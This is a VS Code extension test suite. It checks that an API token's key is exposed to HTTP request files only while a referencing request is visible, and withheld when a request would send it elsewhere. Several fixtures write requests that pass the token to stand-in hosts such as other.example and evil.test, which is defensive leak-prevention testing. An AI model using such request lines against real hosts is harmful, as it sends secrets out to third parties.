import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import { formatAuthorizationReference, formatVariableReference, getVariableName } from '../../src/requestFiles/keyReferences';
import { ReferenceFiles } from '../support/editor/referenceFiles';
import { eventually } from '../support/eventually';

describe('references in request files', function () {
	this.timeout(60_000);
	const files = new ReferenceFiles();

	it('expose the key of a token only while a request file that references it is visible', async () => {
		assert.equal(files.exposedKey, undefined);
		const { document } = await files.open('open.http', files.requestText());
		await files.waitForExposedKey(await files.readKey());
		await files.open('in-front.txt', '');
		await files.waitForExposedKey(undefined);
		await vscode.window.showTextDocument(document);
		await files.waitForExposedKey(await files.readKey());
		await vscode.commands.executeCommand('workbench.action.closeAllEditors');
		await files.waitForExposedKey(undefined);
	});

	it('expose the key to an unsaved document with requests', async () => {
		await vscode.window.showTextDocument(await vscode.workspace.openTextDocument({ language: 'markdown', content: '' }));
		const editor = vscode.window.activeTextEditor!;
		await editor.edit((builder) => builder.insert(new vscode.Position(0, 0), `\`\`\`http\n${files.requestText()}\`\`\`\n`));
		await files.waitForExposedKey(await files.readKey());
		await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
		await files.waitForExposedKey(undefined);
	});

	const unused: Record<string, readonly [name: string, createText: () => string]> = {
		'the text of a Markdown document': [
			'README.md',
			() => `Use the header Authorization: ${formatAuthorizationReference(files.tokenId)}.\n`,
		],
		'a comment': ['comment.http', () => `# Authorization: ${formatAuthorizationReference(files.tokenId)}\nGET http://localhost:3000\n`],
		'text that no request uses': [
			'unused.http',
			() => `@auth = ${formatAuthorizationReference(files.tokenId)}\n###\nGET http://localhost:3000\n`,
		],
	};
	for (const [place, [name, createText]] of Object.entries(unused)) {
		it(`expose no key if they're in ${place}`, async () => {
			await files.open(name, createText());
			await files.assertNotExposed();
		});
	}

	it('expose no key in a file outside of the workspace', async () => {
		const outside = await mkdtemp(join(tmpdir(), 'connect-tokens-outside-'));
		const path = join(outside, 'outside.http');
		await writeFile(path, files.requestText());
		await vscode.window.showTextDocument(await vscode.workspace.openTextDocument(path));
		await files.assertNotExposed();
		await rm(outside, { recursive: true, force: true });
	});

	it('expose no key in a diff', async () => {
		const { document } = await files.open('diff.http', files.requestText());
		await files.waitForExposedKey(await files.readKey());
		await files.open('before.http', files.requestText());
		await vscode.commands.executeCommand('vscode.diff', vscode.Uri.file(join(files.folder, 'before.http')), document.uri);
		await eventually(() => assert.ok(vscode.window.tabGroups.activeTabGroup.activeTab?.input instanceof vscode.TabInputTextDiff));
		await files.waitForExposedKey(undefined);
	});

	describe('while a request that is visible elsewhere would send the key to another host', () => {
		const foreignText = () => `GET https://other.example/?key={{$processEnv ${getVariableName(files.tokenId)}}}\n`;
		let outside: string;

		before(async () => (outside = await mkdtemp(join(tmpdir(), 'connect-tokens-outside-'))));
		after(() => rm(outside, { recursive: true, force: true }));

		async function assertWithheldWhile(show: () => Thenable<unknown>): Promise<void> {
			await files.open('own.http', files.requestText());
			await files.waitForExposedKey(await files.readKey());
			await show();
			await files.waitForExposedKey(undefined);
			await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
			await files.waitForExposedKey(await files.readKey());
		}

		it('expose no key next to a file outside of the workspace', async () => {
			const path = join(outside, 'foreign.http');
			await writeFile(path, foreignText());
			await assertWithheldWhile(() => vscode.window.showTextDocument(vscode.Uri.file(path), { viewColumn: vscode.ViewColumn.Two }));
		});

		it('expose no key next to a diff', async () => {
			const [before, after] = [join(outside, 'before.http'), join(files.folder, 'after.http')];
			await writeFile(before, '');
			await writeFile(after, foreignText());
			await assertWithheldWhile(() =>
				vscode.commands.executeCommand('vscode.diff', vscode.Uri.file(before), vscode.Uri.file(after), 'Diff', {
					viewColumn: vscode.ViewColumn.Two,
				}),
			);
		});

		it('expose no key next to a document in another language that has requests', async () => {
			const path = join(files.folder, 'guide.adoc');
			await writeFile(path, `[source,http]\n----\n${foreignText()}----\n`);
			await assertWithheldWhile(() => vscode.window.showTextDocument(vscode.Uri.file(path), { viewColumn: vscode.ViewColumn.Two }));
		});

		it('expose no key next to a document in another language, whatever white space its request has', async () => {
			const path = join(files.folder, 'script.py');
			const body = `key={{$processEnv ${getVariableName(files.tokenId)}}}`;
			await writeFile(path, `\u00a0POST\u00a0https:other.example\n\n${body}\n`);
			await assertWithheldWhile(() => vscode.window.showTextDocument(vscode.Uri.file(path), { viewColumn: vscode.ViewColumn.Two }));
		});

		it('expose no key next to a request whose variable a setting names', async () => {
			const path = join(files.folder, 'setting.http');
			await writeFile(path, 'POST https://other.example\n\nkey={{$processEnv %name}}\n');
			await assertWithheldWhile(() => vscode.window.showTextDocument(vscode.Uri.file(path), { viewColumn: vscode.ViewColumn.Two }));
		});

		it('expose no key next to Markdown that httpYac reads as a request file because of its name', async () => {
			const path = join(files.folder, 'guide.info');
			await writeFile(path, `Example:\n\n${foreignText()}`);
			await assertWithheldWhile(async () => {
				const document = await vscode.workspace.openTextDocument(path);
				await vscode.languages.setTextDocumentLanguage(document, 'markdown');
				await vscode.window.showTextDocument(document, { viewColumn: vscode.ViewColumn.Two });
			});
		});

		it('expose no key next to a path whose host is in a header', async () => {
			const path = join(files.folder, 'path.txt');
			await writeFile(path, `/x\nHost: other.example:443\nX: {{$processEnv ${getVariableName(files.tokenId)}}}\n`);
			await assertWithheldWhile(() => vscode.window.showTextDocument(vscode.Uri.file(path), { viewColumn: vscode.ViewColumn.Two }));
		});

		it('expose no key to a request file that clients could read as Markdown', async () => {
			const markdown = `${files.requestText()}\n\`\`\`http\n${foreignText().replace('GET ', '')}\`\`\`\n`;
			const { document } = await files.open('markdown.http', markdown);
			await vscode.languages.setTextDocumentLanguage(document, 'markdown');
			await files.assertNotExposed();
		});
	});

	it('expose no key as soon as an edit would send it to another host, even to a command that follows at once', async () => {
		const editor = await files.open('edited.http', files.requestText());
		await files.waitForExposedKey(await files.readKey());
		const exposedKeys: (string | undefined)[] = [];
		// Registered later than the extension's, like a command that runs after the edit.
		const subscription = vscode.workspace.onDidChangeTextDocument(() => exposedKeys.push(files.exposedKey));
		await editor.edit((builder) => builder.replace(new vscode.Range(0, 0, 0, 99), 'GET https://other.example'));
		subscription.dispose();
		assert.deepEqual([...new Set(exposedKeys)], [undefined]);
		await vscode.commands.executeCommand('undo');
		await files.waitForExposedKey(await files.readKey());
		await editor.document.save();
	});

	it('expose no key while text is selected that REST Client would send to another host', async () => {
		const body = `get https://evil.test/?key=${formatVariableReference(files.tokenId)}`;
		const editor = await files.open('selected.http', `POST http://localhost:3000\n\n${body}\n`);
		await files.waitForExposedKey(await files.readKey());
		editor.selection = new vscode.Selection(2, 0, 3, 0);
		await files.waitForExposedKey(undefined);
		editor.selection = new vscode.Selection(0, 0, 3, 0);
		await files.waitForExposedKey(await files.readKey());
		editor.selection = new vscode.Selection(2, 0, 3, 0);
		await files.waitForExposedKey(undefined);
		editor.selection = new vscode.Selection(2, 0, 2, 0);
		await files.waitForExposedKey(await files.readKey());
	});

	it('expose the new key after a rotation, and no key after the token is disabled or deleted', async () => {
		await files.open('life.http', files.requestText());
		const before = await files.readKey();
		await files.waitForExposedKey(before);
		await files.tokens.rotate(files.tokenId);
		assert.notEqual(await files.readKey(), before);
		await files.waitForExposedKey(await files.readKey());
		await files.tokens.disable(files.tokenId);
		await files.waitForExposedKey(undefined);
		await files.tokens.enable(files.tokenId);
		await files.waitForExposedKey(await files.readKey());
		await files.tokens.delete(files.tokenId);
		await files.waitForExposedKey(undefined);
	});

	it("expose no key for other files, for plain-text keys, or if the setting is 'onSend'", async () => {
		await files.open('notes.txt', `Authorization: ${formatAuthorizationReference(files.tokenId)}\n`);
		const editor = await files.open('typed.http', 'GET http://localhost:3000\n');
		await vscode.commands.executeCommand('connectTokens.insertAuthorization', { tokenId: files.tokenId, form: 'secret' });
		assert.equal(files.exposedKey, undefined);
		await vscode.commands.executeCommand('connectTokens.insertAuthorization', { tokenId: files.tokenId, form: 'reference' });
		assert.equal(editor.document.getText(), files.requestText());
		await files.waitForExposedKey(await files.readKey());
		const settings = vscode.workspace.getConfiguration('connectTokens');
		await settings.update('http.exposeKeys', 'onSend', vscode.ConfigurationTarget.Global);
		await files.waitForExposedKey(undefined);
		await settings.update('http.exposeKeys', undefined, vscode.ConfigurationTarget.Global);
		await files.waitForExposedKey(await files.readKey());
	});

	it('expose no key after the language or the name of the file has changed', async () => {
		const { document } = await files.open('language.txt', `\`\`\`http\n${files.requestText()}\`\`\`\n`);
		// Otherwise, the change would pin the tab, which triggers a separate update.
		await vscode.commands.executeCommand('workbench.action.keepEditor');
		assert.equal(files.exposedKey, undefined);
		await vscode.languages.setTextDocumentLanguage(document, 'markdown');
		await files.waitForExposedKey(await files.readKey());
		await vscode.languages.setTextDocumentLanguage(document, 'plaintext');
		await files.waitForExposedKey(undefined);
		const { document: request } = await files.open('named.http', files.requestText());
		await files.waitForExposedKey(await files.readKey());
		const edit = new vscode.WorkspaceEdit();
		edit.renameFile(request.uri, vscode.Uri.file(join(files.folder, 'named.txt')));
		await vscode.workspace.applyEdit(edit);
		await files.waitForExposedKey(undefined);
	});

	it('expose the key while the file is visible in any group, and again after a deleted reference is restored', async () => {
		const editor = await files.open('split.http', files.requestText());
		await files.waitForExposedKey(await files.readKey());
		await vscode.commands.executeCommand('workbench.action.splitEditor');
		await eventually(() => assert.equal(vscode.window.tabGroups.all.length, 2));
		await editor.edit((builder) => builder.delete(new vscode.Range(1, 0, 2, 0)));
		await files.waitForExposedKey(undefined);
		await vscode.commands.executeCommand('undo');
		await files.waitForExposedKey(await files.readKey());
		await vscode.commands.executeCommand('workbench.action.files.save');
		await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
		await eventually(() => assert.equal(vscode.window.tabGroups.all.length, 1));
		await files.waitForExposedKey(await files.readKey());
	});

	it('restore a variable that was set before', async () => {
		process.env[getVariableName(files.tokenId)] = 'set before';
		try {
			await files.open('before.http', files.requestText());
			await files.waitForExposedKey(await files.readKey());
			await files.tokens.rotate(files.tokenId);
			await files.waitForExposedKey(await files.readKey());
			await vscode.commands.executeCommand('workbench.action.closeAllEditors');
			await files.waitForExposedKey('set before');
		} finally {
			Reflect.deleteProperty(process.env, getVariableName(files.tokenId));
		}
	});

	it("aren't sent for a caller with invalid arguments", async () => {
		await files.open('caller.http', files.requestText());
		for (const argument of [
			{},
			'text',
			7,
			{ uri: 1 },
			{ uri: 'x', line: -1, client: 'y' },
			{ uri: 'x', line: 0.5, client: 'y' },
			{ uri: 'x', line: 1 },
		]) {
			await assert.rejects(
				async () => vscode.commands.executeCommand('connectTokens.sendAs', argument),
				/Pass no arguments/,
				JSON.stringify(argument),
			);
		}
	});

	it('are inserted into the request at each cursor or into every request of the file, in one undo step', async () => {
		const text = 'GET http://localhost:3000/1\n\n###\nGET http://localhost:3000/2\n\n###\nGET http://localhost:3000/3\n';
		const editor = await files.open('many.http', text);
		editor.selections = [0, 6].map((line) => new vscode.Selection(line, 0, line, 0));
		await vscode.commands.executeCommand('connectTokens.insertAuthorization', { tokenId: files.tokenId, form: 'reference' });
		const header = `Authorization: ${formatAuthorizationReference(files.tokenId)}`;
		assert.deepEqual(
			editor.document
				.getText()
				.split('\n')
				.flatMap((line, index) => (line === header ? [index] : [])),
			[1, 8],
		);
		await vscode.commands.executeCommand('connectTokens.insertAuthorizationInFile', { tokenId: files.tokenId, form: 'reference' });
		assert.equal(editor.document.getText().split(header).length - 1, 3);
		await vscode.commands.executeCommand('undo');
		await vscode.commands.executeCommand('undo');
		assert.equal(editor.document.getText(), text);
	});

	for (const name of ['plain.txt', 'plain.md', 'plain.yaml']) {
		it(`are inserted on request even in ${name}, where no client resolves them`, async () => {
			const editor = await files.open(name, '');
			await vscode.commands.executeCommand('connectTokens.insertAuthorization', { tokenId: files.tokenId, form: 'reference' });
			assert.equal(editor.document.getText(), `Authorization: ${formatAuthorizationReference(files.tokenId)}`);
		});
	}

	for (const [name, expected] of [
		['script.sh', '-H "Authorization: $CONNECT_API_KEY"'],
		['script.mjs', 'Authorization: process.env.CONNECT_API_KEY'],
		['script.py', '"Authorization": os.environ["CONNECT_API_KEY"]'],
	] as const) {
		it(`are inserted as ${expected} in ${name}`, async () => {
			const editor = await files.open(name, '');
			await vscode.commands.executeCommand('connectTokens.insertAuthorization', { tokenId: files.tokenId });
			assert.equal(editor.document.getText(), expected);
		});
	}

	it('are separated from the surrounding code in a program', async () => {
		const editor = await files.open('between.mjs', "const headers = { Accept: '*/*' };\n");
		editor.selection = new vscode.Selection(0, 18, 0, 18);
		await vscode.commands.executeCommand('connectTokens.insertAuthorization', { tokenId: files.tokenId });
		assert.equal(editor.document.getText(), "const headers = { Authorization: process.env.CONNECT_API_KEY, Accept: '*/*' };\n");
	});
});
